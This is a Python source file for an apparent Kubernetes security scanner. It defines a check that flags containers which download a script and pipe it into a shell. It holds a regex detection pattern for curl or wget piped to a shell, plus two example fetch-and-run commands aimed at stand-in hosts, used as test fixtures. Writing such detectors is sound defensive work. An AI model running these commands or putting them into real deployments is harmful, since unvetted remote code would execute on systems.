"""Find containers that download a script and run it at once."""

import re
from collections.abc import Iterator

from pratique.checks.kubernetes.interface import ManifestFault, Scene, told, workload
from pratique.model.finding import Confidence
from pratique.model.severity import Severity

NAME = "pod-downloads-and-runs"
TITLE = "a container runs what it downloads as it starts"
SEVERITY = Severity.MEDIUM
CONFIDENCE = Confidence.MEDIUM
ALIASES: tuple[str, ...] = ()
REFERENCES: tuple[str, ...] = ("MITRE T1105",)
RULES = {
    NAME: (
        "What the container runs is not what its image was scanned for: the server, or "
        "whoever stands between, decides anew at each start. Put the program into the image, "
        "by its digest."
    )
}
RUNS = re.compile(
    r"\b(?:curl|wget)\b[^|\n]{0,500}\|\s{0,9}(?:sudo\s{1,9})?(?:\S{0,40}/)?(?:ba|da|z|k)?sh\b"
    r"|\b(?:ba|z|k)?sh\s{0,9}<\(\s{0,9}(?:curl|wget)\b"
)
BAD = (
    workload({"command": ["sh", "-c", "curl -s https://get.example/i.sh | sh"]}),
    workload({"args": ["bash <(wget -qO- http://a.example/x)"]}),
)
GOOD = (workload({"command": ["sh", "-c", "curl -fsS http://localhost/ready | grep ok"]}),)


def look(scene: Scene) -> Iterator[ManifestFault]:
    """Yield each place where it stands."""
    for one in scene.containers:
        if any(RUNS.search(word[:20_000]) for word in one.words):
            yield told(one, "its command pipes a download into a shell", "command")
